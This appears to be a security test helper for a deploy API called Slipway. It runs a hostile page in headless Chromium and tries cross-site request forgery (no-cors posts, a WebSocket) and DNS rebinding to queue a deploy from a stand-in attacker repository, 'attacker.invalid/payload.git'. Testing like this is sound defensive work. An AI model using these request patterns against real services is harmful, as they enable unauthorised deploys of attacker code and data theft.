#!/usr/bin/env python3
"""A hostile web page in a real browser (headless Chromium driven by selenium) against a Slipway
API on loopback. Used by BrowserAttackTests; prints one JSON object with what the page saw.

    attack_page.py API_PORT APP

1. Cross-site: a page at http://evil.attacker.test:PORT (served here) tries to queue a deploy of
   APP with the requests a browser sends without a CORS preflight (text/plain, form-encoded,
   no-cors), one with a JSON content type (needs a preflight), and a WebSocket to the log stream.
2. DNS rebinding: the browser resolves rebind.attacker.test to 127.0.0.1 (as a rebinding DNS server
   would after the page loaded), so a page at http://rebind.attacker.test:API_PORT is same-origin
   with the API and can read its answers; it tries to queue a deploy and to list apps.
"""
import http.server
import json
import os
import shutil
import sys
import threading

os.environ.setdefault("SE_AVOID_STATS", "true")  # no usage statistics to the internet
from selenium import webdriver  # noqa: E402
from selenium.webdriver.chrome.service import Service  # noqa: E402

api_port, app = int(sys.argv[1]), sys.argv[2]
api = f"http://127.0.0.1:{api_port}"
payload = json.dumps({"source": "https://attacker.invalid/payload.git"})


class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"<!doctype html><title>cat pictures</title><p>nothing to see here</p>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


page_server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
threading.Thread(target=page_server.serve_forever, daemon=True).start()
page_port = page_server.server_address[1]

options = webdriver.ChromeOptions()
options.binary_location = shutil.which("chromium")
for argument in ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                 "--host-resolver-rules=MAP *.attacker.test 127.0.0.1"]:
    options.add_argument(argument)
driver = webdriver.Chrome(options=options, service=Service(executable_path=shutil.which("chromedriver")))
driver.set_script_timeout(30)

# Each attack reports what the page could observe: an opaque answer means the request reached the
# server (a network error would reject); a status and body when the page may read them.
CROSS_SITE = """
const [api, app, payload, done] = arguments;
const url = `${api}/v1/apps/${app}/deploys`;
const results = {};
async function attempt(name, init) {
  try {
    const answer = await fetch(url, init);
    results[name] = {reached: true, type: answer.type, status: answer.status, body: answer.type === "opaque" ? null : await answer.text()};
  } catch (error) {
    results[name] = {reached: false, error: String(error)};
  }
}
(async () => {
  await attempt("text_plain_no_cors", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: payload});
  await attempt("form_no_cors", {method: "POST", mode: "no-cors", headers: {"Content-Type": "application/x-www-form-urlencoded"}, body: payload});
  await attempt("json_cors", {method: "POST", headers: {"Content-Type": "application/json"}, body: payload});
  results.websocket = await new Promise(resolve => {
    const socket = new WebSocket(`${api.replace("http", "ws")}/v1/apps/${app}/logs/ws`);
    socket.onopen = () => { socket.close(); resolve({opened: true}); };
    socket.onerror = () => resolve({opened: false});
    setTimeout(() => resolve({opened: false, timeout: true}), 10000);
  });
  done(results);
})();
"""

REBOUND = """
const [app, payload, done] = arguments;
const results = {};
(async () => {
  for (const [name, path, init] of [
    ["deploy", `/v1/apps/${app}/deploys`, {method: "POST", headers: {"Content-Type": "application/json"}, body: payload}],
    ["list_apps", "/v1/apps", {}],
  ]) {
    try {
      const answer = await fetch(path, init);
      results[name] = {reached: true, status: answer.status, body: await answer.text()};
    } catch (error) {
      results[name] = {reached: false, error: String(error)};
    }
  }
  done(results);
})();
"""

try:
    driver.get(f"http://evil.attacker.test:{page_port}/")
    cross_site = driver.execute_async_script(CROSS_SITE, api, app, payload)
    cross_site["page_origin"] = driver.execute_script("return location.origin")
    # The rebinding page loads from the API's port under the attacker's name (/healthz answers any Host).
    driver.get(f"http://rebind.attacker.test:{api_port}/healthz")
    rebound = driver.execute_async_script(REBOUND, app, payload)
    rebound["page_origin"] = driver.execute_script("return location.origin")
    print(json.dumps({"cross_site": cross_site, "dns_rebinding": rebound}))
finally:
    driver.quit()
    page_server.shutdown()
